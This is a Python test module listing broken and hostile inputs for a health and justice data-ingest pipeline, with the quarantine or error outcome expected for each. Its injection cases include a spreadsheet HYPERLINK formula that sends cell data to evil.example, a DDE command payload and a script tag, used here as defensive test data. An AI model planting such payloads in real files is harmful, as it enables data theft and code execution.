"""The bad-input corpus: every way a council or NHS extract arrives broken, and what the ingest must do.

Each :class:`Case` writes one broken input over a copy of ``tests/fixtures/valid`` and says
how it must end: rows staged and quarantined (with line, column and rule of each
quarantined row), or a :class:`SourceFileError` (rule, line, column) for that source while
the others still ingest. ``tests/hardening/test_bad_inputs.py`` runs every case;
``bench/reliability.py`` runs them again and prints the figures for docs/reliability.md.
The decisions behind each expected outcome are written down in docs/reliability.md.
"""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import duckdb
import pandas as pd

from models.readmission import overlapping_spells
from pipelines.ingest.readers import SourceFileError
from pipelines.ingest.stage import IngestReport, ingest_source
from schemas.contract import contract
from tests.conftest import AS_OF, FIXTURES, KEY

VALID = FIXTURES / "valid"
FIELD_OF_A_MILLION = "x" * 1_000_000
TOO_LONG_LINE = "y" * (17 * 1024 * 1024)


def fixture_text(source: str) -> str:
    return (VALID / f"{source}.csv").read_text()


def valid_rows(source: str) -> int:
    return len(fixture_text(source).splitlines()) - 1


def next_line(source: str) -> int:
    """The line number the first appended row gets (header is line 1)."""
    return valid_rows(source) + 2


# Writers: each returns a function that changes the copied input folder.
Writer = Callable[[Path], None]


def append(source: str, *rows: str) -> Writer:
    def write(folder: Path) -> None:
        (folder / f"{source}.csv").write_text(fixture_text(source) + "".join(r + "\n" for r in rows))
    return write


def replace(source: str, content: str | bytes) -> Writer:
    def write(folder: Path) -> None:
        path = folder / f"{source}.csv"
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return write


def encoded(source: str, encoding: str, bom: bytes = b"", edit: Callable[[str], str] = lambda t: t) -> Writer:
    return replace(source, bom + edit(fixture_text(source)).encode(encoding))


def delimited(source: str, delimiter: str, *extra_rows: str) -> Writer:
    """The fixture re-delimited (its fields hold no commas)."""
    text = fixture_text(source).replace(",", delimiter) + "".join(r + "\n" for r in extra_rows)
    return replace(source, text)


def header(source: str, new_header: str) -> Writer:
    body = fixture_text(source).split("\n", 1)[1]
    return replace(source, new_header + "\n" + body)


def extra_file(name: str, content: str | bytes) -> Writer:
    def write(folder: Path) -> None:
        path = folder / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return write


def xlsx(name: str, frame: pd.DataFrame) -> Writer:
    def write(folder: Path) -> None:
        frame.to_excel(folder / name, index=False)
    return write


def remove(source: str) -> Writer:
    return lambda folder: (folder / f"{source}.csv").unlink()


def both(*writers: Writer) -> Writer:
    def write(folder: Path) -> None:
        for w in writers:
            w(folder)
    return write


def xlsx_bytes(frame: pd.DataFrame) -> bytes:
    out = io.BytesIO()
    frame.to_excel(out, index=False)
    return out.getvalue()


Check = Callable[[duckdb.DuckDBPyConnection, IngestReport], None]


def staged_value(source: str, expr: str, where: str, expected: object) -> Check:
    """SQL ``expr`` over the staged row matching SQL ``where`` equals ``expected``."""
    def check(con: duckdb.DuckDBPyConnection, report: IngestReport) -> None:
        got = con.execute(f"SELECT {expr} FROM staging.{source} WHERE {where}").fetchall()
        assert got == [(expected,)], f"staging.{source} {expr} where {where}: {got!r} != {expected!r}"
    return check


def note_says(text: str) -> Check:
    def check(con: duckdb.DuckDBPyConnection, report: IngestReport) -> None:
        assert any(text in n for n in report.notes), report.notes
        stored = [r[0] for r in con.execute("SELECT notes FROM meta.input_files WHERE source = ?", [report.source]).fetchall()]
        assert any(n and text in n for n in stored), stored
    return check


def quarantined_value(source: str, expected: str) -> Check:
    def check(con: duckdb.DuckDBPyConnection, report: IngestReport) -> None:
        assert con.execute(f"SELECT value FROM quarantine.{source}").fetchall() == [(expected,)]
    return check


def cleared_value(source: str, line: int, column: str, rule: str) -> Check:
    """The only value cleared (an optional covariate's, its row staged) is ``column`` on ``line``, for ``rule``."""
    def check(con: duckdb.DuckDBPyConnection, report: IngestReport) -> None:
        got = con.execute('SELECT source, source_line, "column", rule FROM quarantine.cleared_values').fetchall()
        assert got == [(source, line, column, rule)], got
    return check


def overlap_flagged(spells: int, persons: int) -> Check:
    def check(con: duckdb.DuckDBPyConnection, report: IngestReport) -> None:
        assert overlapping_spells(con) == (spells, persons)
    return check


def unchecked(reference: str) -> Check:
    def check(con: duckdb.DuckDBPyConnection, report: IngestReport) -> None:
        assert reference in report.unchecked_references
    return check


def column_absent(source: str, column: str) -> Check:
    def check(con: duckdb.DuckDBPyConnection, report: IngestReport) -> None:
        cols = [r[0] for r in con.execute(f"DESCRIBE staging.{source}").fetchall()]
        assert column not in cols, cols
    return check


@dataclass(frozen=True)
class Case:
    """One broken input and how it must end.

    ``read``/``staged`` count the source's rows; ``quarantined`` lists (line, column,
    rule) of each quarantined row in file order (the file is the source's main file
    unless rows come from another). ``error`` is (rule, line, column) of the
    SourceFileError the source must raise instead.
    """

    id: str
    group: str
    source: str
    write: Writer
    read: int = 0
    staged: int = 0
    quarantined: tuple[tuple[int | None, str | None, str], ...] = ()
    error: tuple[str, int | None, str | None] | None = None
    then: tuple[Check, ...] = field(default_factory=tuple)


def q(*rows: tuple[int | None, str | None, str]) -> tuple:
    return tuple(rows)


V = valid_rows
N = next_line
FUTURE = (AS_OF + dt.timedelta(days=30)).isoformat()
SPELL = "S009,P002,RXX01,{adm},{dis},emergency,home,general_medicine,false"
EXCHANGE = "X009,TB01,M001,M002,{hours},2023-03-01,{category},{kind}"
GRANT = "G009,{funder},TB01,500,{start},{end}"


def exchange(hours: str = "1", category: str = "admin", kind: str = "exchange") -> str:
    return EXCHANGE.format(hours=hours, category=category, kind=kind)


def grant(funder: str = "Fund", start: str = "2023-01-01", end: str = "2023-12-31") -> str:
    return GRANT.format(funder=funder, start=start, end=end)


CASES: list[Case] = [
    # --- encodings -------------------------------------------------------------------------
    Case("utf8_bom", "encoding", "grants", encoded("grants", "utf-8", b"\xef\xbb\xbf"), read=2, staged=2,
         then=(staged_value("grants", "funder", "grant_id = 'G001'", "Community Fund"),)),
    Case("latin1_accents", "encoding", "grants",
         encoded("grants", "latin-1", edit=lambda t: t.replace("Community Fund", "Fonds Région Bretagne")), read=2, staged=2,
         then=(staged_value("grants", "funder", "grant_id = 'G001'", "Fonds Région Bretagne"), note_says("line 2 is not UTF-8"))),
    Case("windows1252_quotes", "encoding", "grants",
         encoded("grants", "cp1252", edit=lambda t: t.replace("Justice Trust", "St John’s Trust – £")), read=2, staged=2,
         then=(staged_value("grants", "funder", "grant_id = 'G002'", "St John’s Trust – £"), note_says("Windows-1252"))),
    Case("latin1_undefined_in_1252", "encoding", "grants",
         encoded("grants", "latin-1", edit=lambda t: t.replace("Justice Trust", "Trust\x81")), read=2, staged=2,
         then=(staged_value("grants", "funder", "grant_id = 'G002'", "Trust\x81"), note_says("Latin-1"))),
    Case("utf16_bom", "encoding", "service_contacts", encoded("service_contacts", "utf-16"), read=3, staged=3,
         then=(note_says("UTF-16"),)),
    Case("utf16le_no_bom", "encoding", "service_contacts", encoded("service_contacts", "utf-16-le"), read=3, staged=3),
    Case("utf16be_bom", "encoding", "justice_events", encoded("justice_events", "utf-16-be", b"\xfe\xff"), read=2, staged=2),
    Case("utf8_bom_semicolon", "encoding", "offences",
         replace("offences", b"\xef\xbb\xbf" + fixture_text("offences").replace(",", ";").encode()), read=2, staged=2),
    Case("utf16_bad_row_line", "encoding", "justice_events",
         replace("justice_events", (fixture_text("justice_events") + "P004,parole,2023-04-28\n").encode("utf-16")),
         read=3, staged=2, quarantined=q((4, "event_type", "isin"))),

    # --- delimiters, quoting, headers --------------------------------------------------------
    Case("semicolon", "delimiter", "hospital_spells", delimited("hospital_spells", ";"), read=4, staged=4),
    Case("tab", "delimiter", "offences", delimited("offences", "\t"), read=2, staged=2),
    Case("pipe", "delimiter", "justice_events", delimited("justice_events", "|"), read=2, staged=2),
    Case("tsv_file", "delimiter", "grants",
         extra_file("grants_2024.tsv", "grant_id\tfunder\ttimebank_id\tamount\tperiod_start\tperiod_end\nG003\tF\tTB01\t10\t2024-01-01\t2024-06-30\n"),
         read=3, staged=3),
    Case("semicolon_decimal_comma", "delimiter", "timebank_exchanges",
         delimited("timebank_exchanges", ";", "X009;TB01;M001;M002;1,5;2023-03-01;admin;exchange"),
         read=6, staged=5, quarantined=q((7, "hours", "type"))),
    Case("crlf", "delimiter", "persons", replace("persons", fixture_text("persons").replace("\n", "\r\n")), read=4, staged=4),
    Case("quoted_newline", "quoting", "timebank_exchanges",
         append("timebank_exchanges", exchange(category='"shopping\nand errands"'), "X010,TB01,M001,M002,-1,2023-03-01,admin,exchange"),
         read=7, staged=6, quarantined=q((8, "hours", "greater_than")),
         then=(staged_value("timebank_exchanges", "category", "exchange_id = 'X009'", "shopping\nand errands"),)),
    Case("quoted_delimiter_and_quotes", "quoting", "grants", append("grants", grant(funder='"Smith, Jones ""and"" Co"')),
         read=3, staged=3, then=(staged_value("grants", "funder", "grant_id = 'G009'", 'Smith, Jones "and" Co'),)),
    Case("blank_lines_keep_line_numbers", "quoting", "grants",
         replace("grants", fixture_text("grants") + "\n\n" + grant(end="2022-01-01") + "\n"),
         read=3, staged=2, quarantined=q((6, "period_end", "order"))),
    Case("header_case_and_spaces", "header", "persons",
         header("persons", " Person ID ,BIRTH DATE,Sex,Area-Code,imd decile,Prior Convictions,EMPLOYMENT"), read=4, staged=4),
    Case("header_quoted", "header", "grants",
         header("grants", '"grant_id","funder","timebank_id","amount","period_start","period_end"'), read=2, staged=2),
    Case("columns_reordered", "header", "justice_events",
         replace("justice_events", "event_date,person_id,event_type\n2023-04-28,P004,custody_release\n2023-01-05,P002,caution\n"),
         read=2, staged=2),

    # --- missing, extra and duplicated columns; malformed lines -------------------------------
    Case("missing_required_column", "columns", "offences",
         replace("offences", "offence_id,person_id,offence_date,offence_group,is_breach\nO1,P001,2023-01-01,theft,false\n"),
         error=("required_column", 1, "proven_on")),
    Case("missing_optional_columns", "columns", "persons",
         replace("persons", "person_id,birth_date,sex\nP001,1950-03-01,female\nP002,1962-07-15,male\nP003,1985-11-30,female\nP004,2001-01-20,male\n"),
         read=4, staged=4, then=(staged_value("persons", "imd_decile", "birth_date = DATE '1950-03-01'", None),)),
    Case("extra_column_ignored", "columns", "grants",
         replace("grants", "\n".join(line + (",notes" if i == 0 else ",call Jo") for i, line in enumerate(fixture_text("grants").splitlines())) + "\n"),
         read=2, staged=2, then=(column_absent("grants", "notes"),)),
    Case("duplicated_column", "columns", "grants", header("grants", "grant_id,funder,timebank_id,amount,period_start,period_end,amount"),
         error=("unique_columns", 1, "amount")),
    Case("duplicated_after_normalising", "columns", "grants", header("grants", "grant_id,Grant ID,timebank_id,amount,period_start,period_end"),
         error=("unique_columns", 1, "grant_id")),
    Case("row_too_few_fields", "columns", "grants", append("grants", "G009,Fund,TB01"),
         read=3, staged=2, quarantined=q((4, "amount", "field_count"))),
    Case("row_too_many_fields", "columns", "grants", append("grants", grant() + ",extra,more"),
         read=3, staged=2, quarantined=q((4, None, "field_count"))),
    Case("unclosed_quote_last_line", "columns", "grants", append("grants", 'G009,"Fund,TB01,500,2023-01-01,2023-12-31'),
         read=3, staged=2, quarantined=q((4, "funder", "quoting"))),
    Case("unclosed_quote_swallows_lines", "columns", "grants",
         append("grants", 'G009,"Fund,TB01,500,2023-01-01,2023-12-31', grant().replace("G009", "G010")),
         error=("quoting", 4, "funder")),
    Case("text_after_closing_quote", "columns", "grants", append("grants", grant(funder='"Fund"x'), grant().replace("G009", "G010")),
         read=4, staged=3, quarantined=q((4, "funder", "quoting"))),
    Case("xlsx_duplicated_header", "columns", "coproduction_assessments",
         xlsx("coproduction_assessments_extra.xlsx", pd.DataFrame([["TB01", "2023-06-01", "assets", "d1_i3", 4, 5]],
                                                                   columns=["timebank_id", "assessed_on", "domain", "item", "score", "Score"])),
         error=("unique_columns", 1, "score")),
    Case("xlsx_for_a_csv_only_source", "columns", "hospital_spells",
         xlsx("hospital_spells_2024.xlsx", pd.DataFrame({"spell_id": ["S010"]})), error=("format", None, None)),

    # --- dates --------------------------------------------------------------------------------
    Case("uk_dates", "dates", "hospital_spells", append("hospital_spells", SPELL.format(adm="01/05/2023", dis="05/05/2023")),
         read=5, staged=5, then=(staged_value("hospital_spells", "admitted_on", "source_line = 6", dt.date(2023, 5, 1)),)),
    Case("ambiguous_date_is_uk", "dates", "hospital_spells", append("hospital_spells", SPELL.format(adm="03/04/2023", dis="04/04/2023")),
         read=5, staged=5, then=(staged_value("hospital_spells", "admitted_on", "source_line = 6", dt.date(2023, 4, 3)),)),
    Case("iso_datetime", "dates", "hospital_spells",
         append("hospital_spells", SPELL.format(adm="2023-05-01 00:00:00", dis="2023-05-05T14:30:00")),
         read=5, staged=5, then=(staged_value("hospital_spells", "discharged_on", "source_line = 6", dt.date(2023, 5, 5)),)),
    Case("us_date", "dates", "hospital_spells", append("hospital_spells", SPELL.format(adm="04/01/2023", dis="04/30/2023")),
         read=5, staged=4, quarantined=q((6, "discharged_on", "type"))),
    Case("excel_serial_date", "dates", "grants", append("grants", grant(start="44927", end="45291")),
         read=3, staged=2, quarantined=q((4, "period_start", "type"))),
    Case("two_digit_year", "dates", "persons", append("persons", "P009,01/02/62,male,E1,3,0,employed"),
         read=5, staged=4, quarantined=q((6, "birth_date", "type"))),
    Case("impossible_date", "dates", "justice_events", append("justice_events", "P004,caution,30/02/2023"),
         read=3, staged=2, quarantined=q((4, "event_date", "type"))),
    Case("dashed_day_first", "dates", "justice_events", append("justice_events", "P004,caution,05-01-2023"),
         read=3, staged=2, quarantined=q((4, "event_date", "type"))),

    # --- empty, header-only, huge --------------------------------------------------------------
    Case("empty_file", "size", "grants", replace("grants", b""), error=("header", None, None)),
    Case("blank_first_line", "size", "grants", replace("grants", "\n" + fixture_text("grants")), error=("header", 1, None)),
    Case("whitespace_only", "size", "grants", replace("grants", "  \n \n"), error=("header", 1, None)),
    Case("header_only", "size", "offences", replace("offences", fixture_text("offences").splitlines()[0] + "\n"), read=0, staged=0),
    Case("header_only_no_newline", "size", "offences", replace("offences", fixture_text("offences").splitlines()[0]), read=0, staged=0),
    Case("million_char_free_text", "size", "timebank_exchanges", append("timebank_exchanges", exchange(category=FIELD_OF_A_MILLION)),
         read=6, staged=6, then=(staged_value("timebank_exchanges", "length(category)", "exchange_id = 'X009'", 1_000_000),)),
    Case("million_char_coded_value", "size", "timebank_exchanges", append("timebank_exchanges", exchange(kind=FIELD_OF_A_MILLION)),
         read=6, staged=5, quarantined=q((7, "kind", "isin")), then=(quarantined_value("timebank_exchanges", "x" * 200),)),
    Case("line_over_16_mib", "size", "grants", append("grants", grant(funder=TOO_LONG_LINE), grant().replace("G009", "G010")),
         read=4, staged=3, quarantined=q((4, None, "line_too_long"))),
    Case("binary_garbage", "size", "grants", replace("grants", bytes(range(256)) * 8), error=("format", None, None)),

    # --- hours ---------------------------------------------------------------------------------
    Case("hours_negative", "hours", "timebank_exchanges", append("timebank_exchanges", exchange(hours="-2")),
         read=6, staged=5, quarantined=q((7, "hours", "greater_than"))),
    Case("hours_zero", "hours", "timebank_exchanges", append("timebank_exchanges", exchange(hours="0")),
         read=6, staged=5, quarantined=q((7, "hours", "greater_than"))),
    Case("hours_negative_zero", "hours", "timebank_exchanges", append("timebank_exchanges", exchange(hours="-0.0")),
         read=6, staged=5, quarantined=q((7, "hours", "greater_than"))),
    Case("hours_nan", "hours", "timebank_exchanges", append("timebank_exchanges", exchange(hours="NaN")),
         read=6, staged=5, quarantined=q((7, "hours", "type"))),
    Case("hours_inf", "hours", "timebank_exchanges", append("timebank_exchanges", exchange(hours="inf")),
         read=6, staged=5, quarantined=q((7, "hours", "type"))),
    Case("hours_minus_infinity", "hours", "timebank_exchanges", append("timebank_exchanges", exchange(hours="-Infinity")),
         read=6, staged=5, quarantined=q((7, "hours", "type"))),
    Case("hours_over_a_day", "hours", "timebank_exchanges", append("timebank_exchanges", exchange(hours="24.5")),
         read=6, staged=5, quarantined=q((7, "hours", "less_than_or_equal_to"))),
    Case("hours_as_text", "hours", "timebank_exchanges", append("timebank_exchanges", exchange(hours="2h")),
         read=6, staged=5, quarantined=q((7, "hours", "type"))),
    Case("hours_empty", "hours", "timebank_exchanges", append("timebank_exchanges", exchange(hours="")),
         read=6, staged=5, quarantined=q((7, "hours", "required"))),

    # --- scores and scales ----------------------------------------------------------------------
    Case("star_score_above_scale", "scores", "star_readings", append("star_readings", "P001,wellbeing_star,2023-09-15,lifestyle,6"),
         read=5, staged=4, quarantined=q((6, "score", "within_scale"))),
    Case("star_score_below_scale", "scores", "star_readings", append("star_readings", "P004,justice_star,2023-09-15,accommodation,0"),
         read=5, staged=4, quarantined=q((6, "score", "within_scale"))),
    Case("swemwbs_total_out_of_range", "scores", "star_readings", append("star_readings", "P003,swemwbs,2023-08-20,total,40"),
         read=5, staged=4, quarantined=q((6, "score", "within_scale"))),
    Case("coproduction_score_zero", "scores", "coproduction_assessments",
         append("coproduction_assessments", "TB01,2023-06-01,assets,d1_i3,0"), read=3, staged=2, quarantined=q((4, "score", "in_range"))),
    Case("imd_decile_out_of_range", "scores", "persons", append("persons", "P009,1970-01-01,male,E1,0,0,employed"),
         read=5, staged=5, then=(staged_value("persons", "imd_decile", "birth_date = DATE '1970-01-01'", None),
                                 cleared_value("persons", 6, "imd_decile", "in_range"))),

    # --- future dates ----------------------------------------------------------------------------
    Case("future_exchange", "future", "timebank_exchanges", append("timebank_exchanges", f"X009,TB01,M001,M002,1,{FUTURE},admin,exchange"),
         read=6, staged=5, quarantined=q((7, "exchanged_on", "not_future"))),
    Case("future_birth_date", "future", "persons", append("persons", f"P009,{FUTURE},male,E1,3,0,employed"),
         read=5, staged=4, quarantined=q((6, "birth_date", "not_future"))),
    Case("future_discharge", "future", "hospital_spells", append("hospital_spells", SPELL.format(adm="2024-12-20", dis=FUTURE)),
         read=5, staged=4, quarantined=q((6, "discharged_on", "not_future"))),

    # --- duplicates --------------------------------------------------------------------------------
    Case("duplicate_id_exact", "duplicates", "persons", append("persons", "P002,1962-07-15,male,E06000001,5,3,unemployed"),
         read=5, staged=4, quarantined=q((6, "person_id", "duplicate_row"))),
    Case("duplicate_id_padded", "duplicates", "persons", append("persons", " P002 ,1962-07-15,male,E06000001,5,3,unemployed"),
         read=5, staged=4, quarantined=q((6, "person_id", "duplicate_row"))),
    Case("duplicate_id_conflicting", "duplicates", "persons", append("persons", "P002,1962-07-15,female,E06000001,5,3,unemployed"),
         read=5, staged=3, quarantined=q((3, "person_id", "conflicting_key"), (6, "person_id", "conflicting_key"))),
    Case("redelivered_file", "duplicates", "timebank_exchanges",
         extra_file("timebank_exchanges_again.csv", fixture_text("timebank_exchanges")), read=10, staged=5,
         quarantined=q(*((line, "exchange_id", "duplicate_row") for line in range(2, 7)))),
    Case("conflicting_across_files", "duplicates", "hospital_spells",
         extra_file("hospital_spells_late.csv", fixture_text("hospital_spells").split("\n", 1)[0]
                    + "\nS004,P002,RXX01,2023-04-01,2023-04-03,elective,home,general_surgery,false\n"),
         read=5, staged=3, quarantined=q((5, "spell_id", "conflicting_key"), (2, "spell_id", "conflicting_key"))),
    Case("conflicting_star_reading", "duplicates", "star_readings", append("star_readings", "P001,wellbeing_star,2023-01-15,lifestyle,5"),
         read=5, staged=3, quarantined=q((2, "person_id", "conflicting_record"), (6, "person_id", "conflicting_record"))),

    # --- orphans, spells and order ------------------------------------------------------------------
    Case("orphan_spell", "orphans", "hospital_spells", append("hospital_spells", SPELL.format(adm="2023-05-01", dis="2023-05-02").replace("P002", "P999")),
         read=5, staged=4, quarantined=q((6, "person_id", "unknown_reference"))),
    Case("orphan_exchange_member", "orphans", "timebank_exchanges", append("timebank_exchanges", "X009,TB01,M999,M002,1,2023-03-01,admin,exchange"),
         read=6, staged=5, quarantined=q((7, "giver_id", "unknown_reference"))),
    Case("orphan_member_person", "orphans", "timebank_members", append("timebank_members", "M009,TB01,P999,community,2023-01-01,"),
         read=6, staged=5, quarantined=q((7, "person_id", "unknown_reference"))),
    Case("orphan_without_persons_file", "orphans", "offences", both(remove("persons"), append("offences", "O009,P999,2023-09-01,2023-10-01,theft,false")),
         read=3, staged=3, then=(unchecked("person_id -> persons.person_id (persons not supplied)"),)),
    Case("discharge_before_admission", "order", "hospital_spells", append("hospital_spells", SPELL.format(adm="2023-05-05", dis="2023-05-01")),
         read=5, staged=4, quarantined=q((6, "discharged_on", "order"))),
    Case("proven_before_offence", "order", "offences", append("offences", "O009,P004,2023-09-01,2023-08-01,theft,false"),
         read=3, staged=2, quarantined=q((4, "proven_on", "order"))),
    Case("left_before_joined", "order", "timebank_members", append("timebank_members", "M009,TB01,P001,community,2023-01-01,2022-12-31"),
         read=6, staged=5, quarantined=q((7, "left_on", "order"))),
    Case("overlapping_spells", "order", "hospital_spells", append("hospital_spells", "S009,P002,RXX01,2023-04-01,2023-04-05,emergency,home,general_medicine,false",
                                                                    "S010,P002,RXX01,2023-04-03,2023-04-08,emergency,home,general_medicine,false"),
         read=6, staged=6, then=(overlap_flagged(2, 1),)),

    # --- formula injection, markup, required text -----------------------------------------------------
    Case("formula_hyperlink", "injection", "timebank_exchanges",
         append("timebank_exchanges", exchange(category='"=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"')), read=6, staged=6,
         then=(staged_value("timebank_exchanges", "category", "exchange_id = 'X009'", '=HYPERLINK("http://evil.example/?d="&A1,"click")'),)),
    Case("formula_prefixes", "injection", "grants",
         append("grants", grant(funder="+cmd|' /C calc'!A0"), grant(funder="@SUM(1+1)").replace("G009", "G010"),
                grant(funder="-2+3").replace("G009", "G011")), read=5, staged=5,
         then=(staged_value("grants", "funder", "grant_id = 'G010'", "@SUM(1+1)"),)),
    Case("html_script", "injection", "grants", append("grants", grant(funder="<script>alert('x')</script><b>Fund</b>")), read=3, staged=3,
         then=(staged_value("grants", "funder", "grant_id = 'G009'", "<script>alert('x')</script><b>Fund</b>"),)),
    Case("formula_in_coded_column", "injection", "timebank_exchanges", append("timebank_exchanges", exchange(kind="=1+1")),
         read=6, staged=5, quarantined=q((7, "kind", "isin")), then=(quarantined_value("timebank_exchanges", "=1+1"),)),
    Case("required_blank_spaces", "injection", "service_contacts", append("service_contacts", "   ,gp,2023-01-05"),
         read=4, staged=3, quarantined=q((5, "person_id", "required"))),
]


def upstream(source: str) -> list[str]:
    """The sources ``source`` refers to, transitively, in ingest order."""
    out: list[str] = []
    for target in contract(source).references.values():
        parent = target.split(".")[0]
        for s in upstream(parent) + [parent]:
            if s not in out:
                out.append(s)
    return out


def bystander(source: str) -> str:
    """An unrelated source that must still ingest whole."""
    return "coproduction_assessments" if source == "grants" else "grants"


@dataclass
class Outcome:
    reports: dict[str, IngestReport]
    errors: dict[str, SourceFileError]


def run_case(case: Case, folder: Path, con: duckdb.DuckDBPyConnection) -> Outcome:
    """Write the case over the valid fixture in ``folder`` and ingest its source, the sources it needs and a bystander.

    Each source is ingested on its own, as the Dagster assets are: one failing does not stop the others.
    The sources it refers to are ingested for the cases about references (elsewhere they change nothing:
    the reference rule is skipped, and said so, when they are absent).
    """
    case.write(folder)
    reports, errors = {}, {}
    needed = upstream(case.source) if case.group == "orphans" else []
    for source in [*needed, case.source, bystander(case.source)]:
        try:
            reports[source] = ingest_source(con, source, folder, run_id="corpus", as_of=AS_OF, key=KEY)
        except SourceFileError as err:
            errors[source] = err
    return Outcome(reports, errors)
